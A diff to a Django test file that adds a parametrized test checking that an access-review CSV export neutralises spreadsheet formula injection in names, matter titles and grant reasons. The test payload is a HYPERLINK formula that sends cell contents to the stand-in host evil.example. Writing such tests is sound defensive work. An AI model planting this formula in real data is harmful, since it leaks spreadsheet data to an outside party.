@@ -13,7 +13,7 @@ from django.test.utils import CaptureQueriesContext
 from core.access import matters_for_user
 from core.access_review import access_review
 from core.audit.models import AuditEntry
-from core.models import User
+from core.models import Grant, Matter, User
 from core.services import firm_settings_update
 
 if TYPE_CHECKING:
@@ -144,3 +144,22 @@ def test_api_review_lists_reasons_and_is_audited(cast: Cast) -> None:
         entry = AuditEntry.objects.filter(action="access_review.exported").last()
         assert entry is not None
         assert entry.data_dict["format"] == "json"
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_neutralises_spreadsheet_formulas_in_names_titles_and_reasons(cast: Cast, lead: str) -> None:
+    formula = f'{lead}HYPERLINK("http://evil.example/?"&A1,"Open")'
+    with cast.firm.tenant:
+        User.objects.filter(pk=cast.olga.pk).update(full_name=formula)
+        Matter.objects.filter(pk=cast.m1.pk).update(title=formula)
+        Grant.objects.filter(pk=cast.olga_grant.pk).update(reason=formula)
+
+    rows = _csv(cast.firm.client(cast.paula).get("/staff/access-review.csv"))
+
+    [olga] = [row for row in rows if row["email"] == "olga@acme.test"]
+    assert olga["name"] == f"'{formula}"
+    assert olga["matter_title"] == f"'{formula}"
+    assert olga["access_via"].startswith("grant: ")  # a reason inside a longer cell cannot start a formula
+    leading = {row[column][:1] for row in rows for column in row if row[column]}
+    assert leading.isdisjoint({"=", "+", "@", "\t", "\r"})
+    assert all(not row[column].startswith("-") or row[column] == "-" for row in rows for column in row)
